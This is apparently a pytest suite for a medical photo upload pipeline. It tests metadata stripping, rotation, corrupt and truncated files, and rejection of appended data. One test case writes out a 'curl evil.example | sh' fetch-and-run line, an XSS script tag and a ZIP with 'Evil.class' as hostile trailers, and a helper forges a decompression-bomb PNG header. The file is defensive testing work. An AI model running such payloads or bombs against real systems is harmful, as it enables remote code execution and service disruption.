"""Safe image intake: what we accept, what we refuse, and that nothing of the phone's metadata or of
a half-read file ever gets through."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from pipeline.intake import (
    DecodedImage,
    IntakeError,
    decode_image,
    sanitized_image_bytes,
    sniff_format,
)

LIMITS = {"max_bytes": 5 * 1024 * 1024, "max_pixels": 4_000_000}
ORIENTATION, GPS_IFD, DATETIME, MAKE = 0x0112, 0x8825, 0x0132, 0x010F


def _marked_photo(width: int = 120, height: int = 80) -> np.ndarray:
    """A photo whose top-left quadrant is red and the rest dark grey, so rotations are visible."""
    pixels = np.full((height, width, 3), 40, np.uint8)
    pixels[: height // 2, : width // 2] = (230, 20, 20)
    return pixels


def _encode(pixels: np.ndarray, fmt: str, exif: Image.Exif | None = None, **options) -> bytes:
    buffer = io.BytesIO()
    kwargs = dict(options)
    if exif is not None:
        kwargs["exif"] = exif.tobytes()
    Image.fromarray(pixels).save(buffer, format=fmt, **kwargs)
    return buffer.getvalue()


def _phone_exif(orientation: int) -> Image.Exif:
    """EXIF as a phone writes it: orientation, maker, time and a GPS position."""
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[MAKE] = "PhoneMaker"
    exif[DATETIME] = "2024:05:01 10:00:00"
    exif[GPS_IFD] = {1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 21.0, 3.0)}
    return exif


def _is_red(rgb: tuple[int, ...]) -> bool:
    return rgb[0] > 150 and rgb[1] < 90 and rgb[2] < 90


def test_jpeg_with_exif_rotation_is_turned_upright_and_loses_every_metadata_field() -> None:
    # Orientation 6: the camera was turned 90 degrees clockwise; viewers rotate it back.
    data = _encode(_marked_photo(), "JPEG", _phone_exif(6), quality=95)
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(GPS_IFD)  # the input does carry GPS

    decoded = decode_image(data, **LIMITS)

    assert decoded.format == "JPEG"
    assert decoded.image.mode == "RGB"
    assert decoded.image.size == (80, 120)
    assert decoded.original_size == (80, 120)
    # Red was top-left of the stored pixels; after a clockwise turn it sits top-right.
    assert _is_red(decoded.image.getpixel((70, 10)))
    assert not _is_red(decoded.image.getpixel((10, 10)))
    assert len(decoded.image.getexif()) == 0
    assert decoded.image.info == {}


def test_sanitized_bytes_are_upright_full_size_and_carry_no_gps_nor_exif() -> None:
    data = _encode(_marked_photo(), "JPEG", _phone_exif(6), quality=95)

    clean, mime = sanitized_image_bytes(data, **LIMITS)

    assert mime == "image/jpeg"
    stored = Image.open(io.BytesIO(clean))
    assert stored.size == (80, 120)
    assert len(stored.getexif()) == 0
    assert not stored.getexif().get_ifd(GPS_IFD)
    assert b"Exif" not in clean and b"PhoneMaker" not in clean
    assert _is_red(stored.convert("RGB").getpixel((70, 10)))


def test_png_is_accepted_and_stays_png_without_its_text_chunks() -> None:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "patient Jean Dupont")
    data = _encode(_marked_photo(), "PNG", pnginfo=info)

    decoded = decode_image(data, **LIMITS)
    clean, mime = sanitized_image_bytes(data, **LIMITS)

    assert decoded.format == "PNG" and decoded.image.size == (120, 80)
    assert mime == "image/png"
    assert b"Dupont" not in clean
    assert np.array_equal(np.asarray(Image.open(io.BytesIO(clean))), _marked_photo())


def test_png_with_transparency_is_flattened_to_rgb() -> None:
    rgba = np.zeros((40, 40, 4), np.uint8)
    rgba[..., 0] = 200
    rgba[:20, :, 3] = 255  # top half opaque red, bottom half fully transparent
    buffer = io.BytesIO()
    Image.fromarray(rgba, "RGBA").save(buffer, format="PNG")

    image = decode_image(buffer.getvalue(), **LIMITS).image

    assert image.mode == "RGB"
    assert image.getpixel((5, 5)) == (200, 0, 0)
    assert image.getpixel((5, 35)) == (255, 255, 255)


def test_real_heif_photo_is_decoded_upright() -> None:
    import pillow_heif

    pillow_heif.register_heif_opener()
    # Stored pixels are landscape with orientation 6, as an iPhone held upright stores them.
    data = _encode(_marked_photo(), "HEIF", _phone_exif(6), quality=90)
    assert sniff_format(data) == "HEIF"

    decoded = decode_image(data, **LIMITS)
    clean, mime = sanitized_image_bytes(data, **LIMITS)

    assert decoded.format == "HEIF"
    assert decoded.image.size == (80, 120)
    assert decoded.original_size == (80, 120)
    assert _is_red(decoded.image.getpixel((70, 10)))
    assert mime == "image/jpeg"
    assert len(Image.open(io.BytesIO(clean)).getexif()) == 0


def test_max_side_returns_a_reduced_copy_but_the_full_original_size() -> None:
    rng = np.random.default_rng(0)
    pixels = rng.integers(0, 255, (1500, 2000, 3), dtype=np.uint8)
    data = _encode(pixels, "JPEG", _phone_exif(8), quality=85)

    decoded = decode_image(data, max_bytes=50_000_000, max_pixels=50_000_000, max_side=400)

    assert decoded.original_size == (1500, 2000)  # orientation 8 turns it to portrait
    assert max(decoded.image.size) == 400
    assert decoded.image.size == (300, 400)


def test_truncated_jpeg_is_refused_not_half_read() -> None:
    rng = np.random.default_rng(1)
    data = _encode(rng.integers(0, 255, (200, 300, 3), dtype=np.uint8), "JPEG", quality=90)

    for cut in (len(data) // 2, len(data) - 2):
        with pytest.raises(IntakeError) as error:
            decode_image(data[:cut], **LIMITS)
        assert error.value.code == "corrupt"
        assert "truncated" in error.value.message


def test_corrupt_png_is_refused() -> None:
    data = bytearray(_encode(_marked_photo(), "PNG"))
    data[60:90] = b"\x00" * 30  # wreck the compressed pixel data

    with pytest.raises(IntakeError) as error:
        decode_image(bytes(data), **LIMITS)
    assert error.value.code == "corrupt"


def test_text_file_named_jpg_is_not_an_image(tmp_path: Path) -> None:
    path = tmp_path / "lesion.jpg"
    path.write_text("Ceci n'est pas une photo.\n")

    with pytest.raises(IntakeError) as error:
        decode_image(path.read_bytes(), **LIMITS)
    assert error.value.code == "not_an_image"
    assert "not an image" in error.value.message


def test_other_image_formats_are_named_and_refused() -> None:
    data = _encode(_marked_photo(), "GIF")

    with pytest.raises(IntakeError) as error:
        decode_image(data, **LIMITS)
    assert error.value.code == "unsupported_format"
    assert "GIF" in error.value.message


def test_empty_upload_is_refused() -> None:
    with pytest.raises(IntakeError) as error:
        decode_image(b"", **LIMITS)
    assert error.value.code == "empty"


def test_oversize_file_is_refused_before_any_decoding() -> None:
    data = _encode(_marked_photo(), "PNG")

    with pytest.raises(IntakeError) as error:
        decode_image(data, max_bytes=len(data) - 1, max_pixels=LIMITS["max_pixels"])
    assert error.value.code == "too_large"
    assert "too large" in error.value.message


def _png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header (with a valid checksum) claims ``width`` x ``height`` pixels, as a
    decompression bomb does: a few bytes that would expand to gigabytes."""
    data = bytearray(_encode(np.zeros((1, 1, 3), np.uint8), "PNG"))
    ihdr = 8 + 4  # signature, then the IHDR chunk's length field
    data[ihdr + 4 : ihdr + 12] = struct.pack(">II", width, height)
    data[ihdr + 17 : ihdr + 21] = struct.pack(">I", zlib.crc32(bytes(data[ihdr : ihdr + 17])))
    return bytes(data)


def test_decompression_bomb_is_refused_from_its_header() -> None:
    data = _png_declaring(30_000, 30_000)
    assert len(data) < 100

    with pytest.raises(IntakeError) as error:
        decode_image(data, **LIMITS)
    assert error.value.code == "decompression_bomb"


def test_pillow_own_bomb_guard_is_reported_as_a_bomb_too() -> None:
    # Even with our limit set absurdly high, Pillow's guard (2 x MAX_IMAGE_PIXELS) still holds.
    with pytest.raises(IntakeError) as error:
        decode_image(_png_declaring(60_000, 60_000), max_bytes=1000, max_pixels=10**12)
    assert error.value.code == "decompression_bomb"


def test_image_just_over_the_pixel_limit_is_refused() -> None:
    data = _encode(np.zeros((100, 101, 3), np.uint8), "PNG")

    with pytest.raises(IntakeError) as error:
        decode_image(data, max_bytes=LIMITS["max_bytes"], max_pixels=100 * 100)
    assert error.value.code == "decompression_bomb"


def test_real_dermoscopy_image_is_accepted(derm_images: list[Path]) -> None:
    decoded = decode_image(derm_images[0].read_bytes(), **LIMITS)

    assert isinstance(decoded, DecodedImage)
    assert decoded.format == "JPEG"
    assert decoded.image.size == decoded.original_size == (224, 224)


# --- phone trailers: data a camera appends after the JPEG ------------------------------------

_MOTION_PHOTO_XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:GCamera="http://ns.google.com/photos/1.0/camera/" '
    b'xmlns:Container="http://ns.google.com/photos/1.0/container/" '
    b'xmlns:Item="http://ns.google.com/photos/1.0/container/item/" '
    b'GCamera:MotionPhoto="1" GCamera:MotionPhotoVersion="1" '
    b'GCamera:MotionPhotoPresentationTimestampUs="500000">'
    b"<Container:Directory><rdf:Seq>"
    b'<rdf:li><Container:Item Item:Mime="image/jpeg" Item:Semantic="Primary"/></rdf:li>'
    b'<rdf:li><Container:Item Item:Mime="video/mp4" Item:Semantic="MotionPhoto" '
    b'Item:Length="LENGTH"/></rdf:li>'
    b"</rdf:Seq></Container:Directory></rdf:Description></rdf:RDF></x:xmpmeta>"
)


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def _mp4_like(seconds: int = 1) -> bytes:
    """An MP4's top-level shape: ``ftyp`` (brand mp42), ``mdat`` with bytes, ``moov`` last."""
    rng = np.random.default_rng(seconds)
    return (
        _box(b"ftyp", b"mp42\x00\x00\x00\x00isommp42")
        + _box(b"mdat", rng.integers(0, 256, 3000 * seconds, dtype=np.uint8).tobytes())
        + _box(b"moov", _box(b"mvhd", bytes(100)))
    )


def _samsung_trailer(video: bytes) -> bytes:
    """Samsung's SEF trailer as its phones write a Motion Photo: one field (marker 0x0a30,
    ``MotionPhoto_Data``, the video), then the SEFH directory, its length and ``SEFT``."""
    name = b"MotionPhoto_Data"
    field = b"\x00\x00\x30\x0a" + struct.pack("<I", len(name)) + name + video
    entry = b"\x00\x00\x30\x0a" + struct.pack("<II", len(field), len(field))
    directory = b"SEFH" + struct.pack("<II", 106, 1) + entry
    return field + directory + struct.pack("<I", len(directory)) + b"SEFT"


@pytest.fixture(scope="module")
def real_jpeg(derm_images: list[Path]) -> bytes:
    """A real photo, with the XMP block a Pixel writes into a Motion Photo's JPEG."""
    pixels = np.asarray(Image.open(derm_images[0]).convert("RGB"))
    xmp = _MOTION_PHOTO_XMP.replace(b"LENGTH", str(len(_mp4_like())).encode())
    return _encode(pixels, "JPEG", quality=90, xmp=xmp)


def _gain_map_jpeg() -> bytes:
    return _encode(np.full((40, 60, 3), 128, np.uint8), "JPEG", quality=85)


@pytest.mark.parametrize(
    "trailer",
    [
        pytest.param(_mp4_like(), id="Google Motion Photo (MP4 appended)"),
        pytest.param(_gain_map_jpeg() + _mp4_like(), id="Pixel Ultra HDR: gain map, then video"),
        pytest.param(_samsung_trailer(_mp4_like()), id="Samsung Motion Photo (SEF trailer)"),
        pytest.param(_mp4_like() + b"\x00" * 7, id="video then NUL padding"),
    ],
)
def test_a_phone_photo_with_a_trailer_is_accepted_and_the_stored_copy_has_no_trailer(
    real_jpeg: bytes, trailer: bytes
) -> None:
    upload = real_jpeg + trailer
    assert b"MotionPhoto" in upload  # the input is what a phone sends
    decoded = decode_image(upload, **LIMITS)
    clean, mime = sanitized_image_bytes(upload, **LIMITS)
    assert mime == "image/jpeg" and decoded.format == "JPEG"
    # The stored copy is the picture alone: exactly what the same photo gives without a trailer.
    assert clean == sanitized_image_bytes(real_jpeg, **LIMITS)[0]
    assert b"ftyp" not in clean and b"SEFT" not in clean and b"MotionPhoto" not in clean
    assert len(clean) < len(upload) - len(trailer) // 2


def test_a_multi_picture_jpeg_as_pillow_writes_it_is_accepted_as_its_first_picture() -> None:
    """The Multi-Picture Format (MPF, what an Ultra HDR photo's gain map rides on): a second
    JPEG after the first one's end, announced in an APP2 segment."""
    buffer = io.BytesIO()
    first = Image.fromarray(_marked_photo())
    first.save(buffer, "MPO", save_all=True, append_images=[Image.new("RGB", (30, 20), "blue")])
    decoded = decode_image(buffer.getvalue(), **LIMITS)
    assert decoded.image.size == (120, 80) and _is_red(decoded.image.getpixel((5, 5)))


def _zip() -> bytes:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe" + bytes(64))
    return buffer.getvalue()


@pytest.mark.parametrize(
    "trailer",
    [
        pytest.param(_zip(), id="a ZIP / JAR"),
        pytest.param(b"<html><script>alert(1)</script></html>", id="an HTML page"),
        pytest.param(b"#!/bin/sh\ncurl evil.example | sh\n", id="a script"),
        pytest.param(_mp4_like() + b"<script>alert(1)</script>", id="a video, then a script"),
        pytest.param(_mp4_like()[:-20], id="a video cut short"),
        pytest.param(_box(b"ftyp", b"mp42") + b"<html></html>", id="ftyp, then no boxes"),
        pytest.param(_gain_map_jpeg()[:-2] + b"<html></html>", id="a JPEG without its end"),
        pytest.param(_samsung_trailer(_mp4_like())[:-9] + b"XSEFT", id="SEFT, broken directory"),
        pytest.param(b"<html></html>" + _samsung_trailer(b""), id="HTML before a SEF field"),
    ],
)
def test_what_no_phone_camera_writes_after_the_picture_is_still_refused(
    real_jpeg: bytes, trailer: bytes
) -> None:
    with pytest.raises(IntakeError) as refusal:
        decode_image(real_jpeg + trailer, **LIMITS)
    assert refusal.value.code == "trailing_data"


def test_a_png_with_a_video_after_it_is_refused_no_phone_writes_one() -> None:
    png = _encode(_marked_photo(), "PNG")
    with pytest.raises(IntakeError) as refusal:
        decode_image(png + _mp4_like(), **LIMITS)
    assert refusal.value.code == "trailing_data"


def test_a_video_on_its_own_is_still_not_a_photo() -> None:
    with pytest.raises(IntakeError) as refusal:
        decode_image(_mp4_like(), **LIMITS)
    assert refusal.value.code == "unsupported_format"
